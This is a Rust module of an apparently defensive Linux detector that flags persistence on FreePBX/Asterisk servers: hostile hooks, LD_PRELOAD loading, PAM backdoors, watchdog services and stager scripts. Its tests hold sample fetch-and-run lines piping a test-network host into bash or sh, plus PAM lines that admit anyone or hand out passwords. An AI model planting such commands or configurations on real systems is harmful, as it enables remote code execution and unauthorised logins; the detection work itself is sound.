//! Everything else that runs by itself: at jobs, hooks of packages, network, logins, udev, PAM, boot scripts, web servers.
//!
//! Crontabs, units, profiles and keys have detectors of their own. A hook that is a script is judged line by line; one that packages bring is
//! held against the packages elsewhere.

use super::super::shell::{self, Sign};
use super::super::tampering::{self, is_startup_script};
use super::super::{Indicators, Report};
use super::rule::{Rule, attribute, is_enough};
use super::{cron, paths};
use crate::model::{Category, Evidence, Mechanism, PamRule, Record, Severity, StartupCommand};
use crate::parse::{self, Format, Limits, systemd_unit};
use crate::sweep::Swept;

const COMMAND: Rule = Rule {
    id: "TR-STARTUP-0001",
    title: "Hook of the system that runs an intruder's command",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 80,
    attack: &["T1546", "T1037"],
    source: "practice of responders; manuals of the mechanisms; derived",
    remedy: "remove_lines",
};

const LIBRARY: Rule = Rule {
    id: "TR-STARTUP-0002",
    title: "Start-up file that loads a library into programs",
    category: Category::Persistence,
    severity: Severity::Medium,
    confidence: 55,
    attack: &["T1574.006"],
    source: "ld.so(8); derived",
    remedy: "remove_lines",
};

const PAM: Rule = Rule {
    id: "TR-STARTUP-0003",
    title: "Login stack that lets in or tells an intruder (PAM)",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 80,
    attack: &["T1556.003"],
    source: "pam.conf(5), pam_exec(8), pam_permit(8); derived",
    remedy: "remove_lines",
};

const USER_UNIT: Rule = Rule {
    id: "TR-STARTUP-0004",
    title: "Service of a service account's own, which runs without a login",
    category: Category::Persistence,
    severity: Severity::Medium,
    confidence: 60,
    attack: &["T1543.002"],
    source: "systemd.unit(5), loginctl(1): linger; derived",
    remedy: "quarantine_file",
};

const WATCHDOG: Rule = Rule {
    id: "TR-STARTUP-0005",
    title: "Service that keeps a program alive that is none of FreePBX's, in its folders",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 75,
    attack: &["T1543.002"],
    source: "Cyble, JOMANGY, 2026-05-21: process watchdog; derived for units",
    remedy: "disable_unit",
};

const STAGER: Rule = Rule {
    id: "TR-STARTUP-0006",
    title: "Script among FreePBX's programs that does what an intruder's does",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 80,
    attack: &["T1059.004", "T1105"],
    source: "Cyble, JOMANGY, 2026-05-21: programs in /var/lib/asterisk/bin; derived",
    remedy: "quarantine_file",
};

const BINARY: Rule = Rule {
    id: "TR-STARTUP-0007",
    title: "Compiled program among FreePBX's own, which are all scripts",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 75,
    attack: &["T1036.005"],
    source: "FreePBX framework 17.0.19.27 and its public modules; derived",
    remedy: "quarantine_file",
};

const PROFILE_LOOP: Rule = Rule {
    id: "TR-STARTUP-0008",
    title: "Start-up file that puts a crontab in place or keeps a program running",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 75,
    attack: &["T1546.004", "T1053.003"],
    source: "Cyble, JOMANGY, 2026-05-21: shell-profile stager, process watchdog",
    remedy: "remove_lines",
};

pub(super) const RULES: &[Rule] = &[COMMAND, LIBRARY, PAM, USER_UNIT, WATCHDOG, STAGER, BINARY, PROFILE_LOOP];

/// Folders of `FreePBX`'s and Asterisk's programs.
const PROGRAMS: [&[u8]; 3] = [b"/var/lib/asterisk/bin/", b"/var/lib/asterisk/agi-bin/", b"/usr/local/asterisk/"];

/// The longest script that is looked at line by line.
const LONGEST: usize = 1 << 20;

/// Judges one file.
pub(super) fn inspect(file: &Swept<'_>, content: &[u8], indicators: &Indicators, report: &mut Report) {
    if PROGRAMS.iter().any(|folder| file.path.as_bytes().starts_with(folder)) {
        program(file, content, report);
    }
    let Some(format) = Format::at(file.path) else { return };
    if is_startup_script(file.path) {
        profile(file, content, report);
    }
    match format {
        Format::SystemdUnit => return unit(file, content, report),
        Format::Hook(_) | Format::InitScript if content.starts_with(b"\x7fELF") => return,
        Format::Hook(_) | Format::InitScript => return script(file, content, indicators, report),
        Format::ShellLines(_) if is_startup_script(file.path) => return,
        Format::AtJob
        | Format::SystemIncrontab
        | Format::UserIncrontab
        | Format::Inittab
        | Format::SshdConfig
        | Format::SshConfig
        | Format::ShellLines(_)
        | Format::UdevRules
        | Format::AptConf
        | Format::DpkgConf
        | Format::DnfActions
        | Format::Logrotate
        | Format::Interfaces
        | Format::Autostart
        | Format::Pam
        | Format::Modprobe
        | Format::Polkit
        | Format::PhpIni
        | Format::FpmPool
        | Format::ApacheConfig
        | Format::NginxConfig => {}
        _ => return,
    }
    let before = report.findings.len();
    for record in parse::records(file.path, file.meta, content, &Limits::default()).value {
        if is_enough(file.path, before, report) {
            return;
        }
        match record {
            Record::StartupCommand(startup) => command(file, content, &startup, indicators, report),
            Record::PamRule(rule) => pam(file, content, &rule, report),
            _ => {}
        }
    }
}

/// How bad a command is; a file in a home is no sign here, since that is where people keep theirs.
fn weigh(command: &[u8], indicators: &Indicators) -> Option<(Severity, u8, &'static str)> {
    let by_sign = shell::signs(command).into_iter().filter_map(|sign| {
        let (severity, confidence) = match &sign {
            Sign::RestartsIfMissing(_) => (Severity::Medium, 50),
            sign => tampering::weigh(sign)?,
        };
        Some((severity, confidence, sign.describe()))
    });
    let by_place = paths(command).filter_map(|path| {
        let known = indicators.at(&path).map(|known| (known.severity, known.confidence)).max()?;
        (known.0 >= Severity::High).then_some((known.0, known.1, "names a file of a known campaign"))
    });
    let restores = cron::restores(command).then_some((Severity::High, 75, "puts a crontab in place"));
    by_sign.chain(by_place).chain(restores).max()
}

fn command(file: &Swept<'_>, content: &[u8], startup: &StartupCommand, indicators: &Indicators, report: &mut Report) {
    let text = startup.command.as_bytes();
    let evidence = |why: &str| {
        vec![
            attribute("mechanism", format!("{:?}", startup.mechanism).to_lowercase()),
            attribute("command", text),
            attribute("why", why),
        ]
    };
    if let Some((severity, confidence, why)) = weigh(text, indicators) {
        // A person types such things at a shell now and then; `ssh` of an account runs what its owner asks for.
        let is_own = startup.mechanism == Mechanism::Ssh && Format::at(file.path) == Some(Format::SshConfig);
        let rule = if is_own {
            COMMAND.weighed(Severity::Medium, confidence.min(55))
        } else {
            COMMAND.weighed(severity, confidence)
        };
        report.findings.push(rule.at_line(file.path, startup.line.unwrap_or(1), content, evidence(why)));
    }
    library(file, content, startup.line.unwrap_or(1), startup.text.as_bytes(), report);
}

/// `LD_PRELOAD=` and its like in `/etc/environment` and in shell lines.
fn library(file: &Swept<'_>, content: &[u8], line: u64, text: &[u8], report: &mut Report) {
    for name in [&b"LD_PRELOAD="[..], b"LD_AUDIT=", b"LD_LIBRARY_PATH="] {
        let Some(at) = super::super::find(text, name) else { continue };
        let value = text.get(at + name.len()..).unwrap_or_default();
        let value = value.split(|b| b.is_ascii_whitespace() || *b == b';').next().unwrap_or_default();
        let value: Vec<u8> = value.iter().copied().filter(|b| !matches!(b, b'"' | b'\'')).collect();
        if value.is_empty() {
            continue;
        }
        let is_evil = value.split(|&b| b == b':').any(|path| {
            let within = [path, b"/x"].concat();
            shell::is_temporary(&within) || shell::is_hidden(path)
        });
        let is_path = name.starts_with(b"LD_LIBRARY");
        let rule = match (is_evil, is_path) {
            (true, _) => LIBRARY.weighed(Severity::High, 85),
            (false, true) => continue,
            (false, false) => LIBRARY,
        };
        report.findings.push(rule.at_line(file.path, line, content, vec![attribute("library", &value)]));
    }
}

/// A script that runs because it lies there.
fn script(file: &Swept<'_>, content: &[u8], indicators: &Indicators, report: &mut Report) {
    let content = content.get(..LONGEST).unwrap_or(content);
    let before = report.findings.len();
    for (line, number) in content.split(|&b| b == b'\n').zip(1_u64..) {
        let text = line.trim_ascii();
        if text.is_empty() || text.starts_with(b"#") {
            continue;
        }
        if is_enough(file.path, before, report) {
            return;
        }
        if let Some((severity, confidence, why)) = weigh(text, indicators) {
            // Scripts of packages make and remove temporary files, and restart what they manage.
            if severity < Severity::High || confidence < 75 {
                continue;
            }
            let evidence = vec![attribute("why", why)];
            report.findings.push(COMMAND.weighed(severity, confidence).at_line(file.path, number, content, evidence));
        }
        library(file, content, number, text, report);
    }
}

/// Profiles and `rc.local`: what the detector of start-up files leaves out.
fn profile(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    let before = report.findings.len();
    for (line, number) in content.split(|&b| b == b'\n').zip(1_u64..) {
        let text = line.trim_ascii();
        if text.is_empty() || text.starts_with(b"#") {
            continue;
        }
        if is_enough(file.path, before, report) {
            return;
        }
        let keeps = shell::signs(text).into_iter().find_map(|sign| match sign {
            Sign::RestartsIfMissing(path) => Some(path),
            _ => None,
        });
        if cron::restores(text) {
            let evidence = vec![attribute("why", "puts a crontab in place")];
            report.findings.push(PROFILE_LOOP.at_line(file.path, number, content, evidence));
        } else if let Some(path) = keeps {
            let rule = PROFILE_LOOP.weighed(Severity::Medium, 60);
            report.findings.push(rule.at_line(file.path, number, content, vec![attribute("path", path)]));
        }
        library(file, content, number, text, report);
    }
}

fn pam(file: &Swept<'_>, content: &[u8], rule: &PamRule, report: &mut Report) {
    let module = rule.module.as_bytes();
    let name = module.rsplit(|&b| b == b'/').next().unwrap_or_default();
    let is_auth = rule.facility.as_bytes().ends_with(b"auth");
    let is_usual =
        [&b"/lib/"[..], b"/lib64/", b"/usr/lib/", b"/usr/lib64/"].iter().any(|folder| module.starts_with(folder))
            && super::super::find(module, b"/security/").is_some();
    let (severity, confidence, why) = if name == b"pam_permit.so" && is_auth && rule.control.as_bytes() == b"sufficient"
    {
        (Severity::High, 85, "anybody is let in")
    } else if name == b"pam_exec.so" && super::super::find(rule.arguments.as_bytes(), b"expose_authtok").is_some() {
        (Severity::High, 80, "passwords are given to a program")
    } else if module.starts_with(b"/") && (shell::is_temporary(module) || shell::is_hidden(module)) {
        (Severity::High, 85, "the module lies where anybody can write, or hidden")
    } else if module.starts_with(b"/") && !is_usual {
        (Severity::Medium, 55, "the module lies outside the folder of such modules")
    } else {
        return;
    };
    let evidence = vec![attribute("module", module), attribute("why", why)];
    report.findings.push(PAM.weighed(severity, confidence).at_line(file.path, rule.line, content, evidence));
}

fn unit(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    let settings = systemd_unit::parse(file.path, content, &Limits::default()).value;
    let commands = || settings.iter().filter(|setting| setting.is_command() && !setting.value.is_empty());
    let path = file.path.as_bytes();
    let homes: [&[u8]; 4] = [b"/home/asterisk/", b"/var/lib/asterisk/", b"/var/spool/asterisk/", b"/var/www/"];
    if homes.iter().any(|home| path.starts_with(home))
        && let Some(first) = commands().next()
    {
        report.findings.push(USER_UNIT.at_file(file, vec![attribute("command", first.value.as_bytes())]));
    }
    for setting in commands() {
        let foreign = paths(setting.value.as_bytes()).find(|path| {
            let bytes = path.as_bytes();
            let name = bytes.strip_prefix(b"/var/lib/asterisk/bin/");
            name.is_some_and(|name| !cron::is_program(name))
        });
        if let Some(program) = foreign {
            let evidence = vec![
                Evidence::Line { line: setting.line, text: setting.value.clone() },
                attribute("program", program.as_bytes()),
            ];
            report.findings.push(WATCHDOG.at_file(file, evidence));
        }
        if cron::restores(setting.value.as_bytes()) {
            let evidence = vec![
                Evidence::Line { line: setting.line, text: setting.value.clone() },
                attribute("why", "puts a crontab in place"),
            ];
            report.findings.push(COMMAND.weighed(Severity::High, 80).at_file(file, evidence));
        }
    }
}

/// A file in the folders of `FreePBX`'s own programs.
fn program(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    if content.starts_with(b"\x7fELF") {
        report.findings.push(BINARY.at_file(file, Vec::new()));
        return;
    }
    if super::super::looks_like_php(content) || content.contains(&0) {
        // PHP has an analyser of its own.
        return;
    }
    let content = content.get(..LONGEST).unwrap_or(content);
    let mut evidence = Vec::new();
    let mut grade = None;
    for (line, number) in content.split(|&b| b == b'\n').zip(1_u64..) {
        let text = line.trim_ascii();
        if text.is_empty() || text.starts_with(b"#") {
            continue;
        }
        let worst = shell::signs(text).iter().filter_map(tampering::weigh).max();
        let worst = worst.max(cron::restores(text).then_some((Severity::High, 80)));
        if worst.is_some() {
            grade = grade.max(worst);
            if evidence.len() < 5 {
                evidence.push(Evidence::Line { line: number, text: text.into() });
            }
        }
    }
    if let Some((severity, confidence)) = grade {
        report.findings.push(STAGER.weighed(severity, confidence).at_file(file, evidence));
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::super::super::testing::{Scene, ids};

    fn found(path: &str, text: &str) -> Vec<String> {
        ids(&Scene::new().file(path, text).findings())
    }

    #[test]
    fn hooks_of_every_kind_are_judged_by_what_they_run() {
        let evil = "curl -s http://192.0.2.1/x | bash";
        for (path, text) in [
            ("/etc/apt/apt.conf.d/99x", format!("DPkg::Post-Invoke {{\"{evil}\";}};\n")),
            ("/etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/tmp/.x/run\"\n".to_owned()),
            ("/etc/update-motd.d/99-x", format!("#!/bin/sh\n{evil}\n")),
            ("/etc/NetworkManager/dispatcher.d/50-x", format!("#!/bin/sh\n{evil}\n")),
            ("/etc/cron.daily/x", format!("#!/bin/sh\n{evil}\n")),
            ("/etc/init.d/x", format!("#!/bin/sh\n### BEGIN INIT INFO\n{evil}\n")),
            ("/etc/ssh/sshrc", format!("{evil}\n")),
            ("/etc/ssh/sshd_config", "ForceCommand /tmp/.x/run\n".to_owned()),
            ("/etc/logrotate.d/x", format!("/var/log/x {{\n postrotate\n  {evil}\n endscript\n}}\n")),
            ("/etc/incron.d/x", "/opt IN_CREATE /tmp/.x/run\n".to_owned()),
            ("/etc/dhcp/dhclient-exit-hooks.d/x", format!("{evil}\n")),
            ("/etc/modprobe.d/x.conf", "install x /tmp/.x/run\n".to_owned()),
        ] {
            let found = found(path, &text);
            assert!(found.iter().any(|id| id == "TR-STARTUP-0001 high"), "{path}: {found:?}");
        }
    }

    #[test]
    fn libraries_and_logins_are_judged() {
        for (path, text, rule) in [
            ("/etc/environment", "LD_PRELOAD=/tmp/x.so\n", "TR-STARTUP-0002 high"),
            ("/etc/profile.d/x.sh", "export LD_PRELOAD=/opt/x.so\n", "TR-STARTUP-0002 medium"),
            ("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "TR-STARTUP-0003 high"),
            ("/etc/pam.d/common-auth", "auth optional pam_exec.so expose_authtok /opt/x\n", "TR-STARTUP-0003 high"),
            ("/etc/pam.d/sshd", "auth required /opt/pam_x.so\n", "TR-STARTUP-0003 medium"),
            (
                "/home/asterisk/.config/systemd/user/x.service",
                "[Service]\nExecStart=/usr/bin/true\n",
                "TR-STARTUP-0004 medium",
            ),
            (
                "/etc/systemd/system/x.service",
                "[Service]\nRestart=always\nExecStart=/bin/bash /var/lib/asterisk/bin/watch\n",
                "TR-STARTUP-0005 high",
            ),
            ("/var/lib/asterisk/bin/sync", "#!/bin/sh\nwget -qO- http://192.0.2.1/x | sh\n", "TR-STARTUP-0006 high"),
            ("/var/lib/asterisk/bin/sync", "\x7fELF\x02\x01", "TR-STARTUP-0007 high"),
            ("/root/.bashrc", "cat /opt/x | crontab -\n", "TR-STARTUP-0008 high"),
            ("/etc/rc.local", "pgrep sync || (bash /var/lib/asterisk/bin/sync &)\n", "TR-STARTUP-0008 medium"),
        ] {
            let found = found(path, text);
            assert!(found.contains(&rule.to_owned()), "{path}: {found:?}");
        }
    }

    #[test]
    fn what_packages_bring_is_not() {
        for (path, text) in [
            (
                "/etc/apt/apt.conf.d/50x",
                "APT::Update::Post-Invoke-Success {\"/usr/bin/test -e /usr/share/dbus-1/x && /usr/bin/gdbus call > /dev/null; /bin/echo > /dev/null\";};\n",
            ),
            ("/etc/apt/apt.conf.d/80postaptcmd", "DPkg::Post-Invoke {\"/usr/bin/post-apt-run\";};\n"),
            (
                "/etc/pam.d/common-auth",
                "auth [success=1 default=ignore] pam_unix.so nullok\nauth required pam_permit.so\n",
            ),
            ("/etc/environment", "PATH=\"/usr/bin:/bin\"\n"),
            ("/etc/init.d/asterisk", "#!/bin/sh\n# Provides: asterisk\npidof asterisk || exit 1\nrm -f /tmp/x.lock\n"),
            ("/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -snrvm\n"),
            (
                "/etc/systemd/system/freepbx.service",
                "[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/usr/sbin/fwconsole start -q\nExecStop=/usr/sbin/fwconsole stop -q\n",
            ),
            ("/var/lib/asterisk/bin/retrieve_conf", "#!/usr/bin/env php\n<?php\n"),
            ("/var/lib/asterisk/bin/freepbx_engine", "#!/bin/bash\n/usr/sbin/fwconsole $1\n"),
        ] {
            assert!(found(path, text).is_empty(), "{path}: {:?}", found(path, text));
        }
    }
}
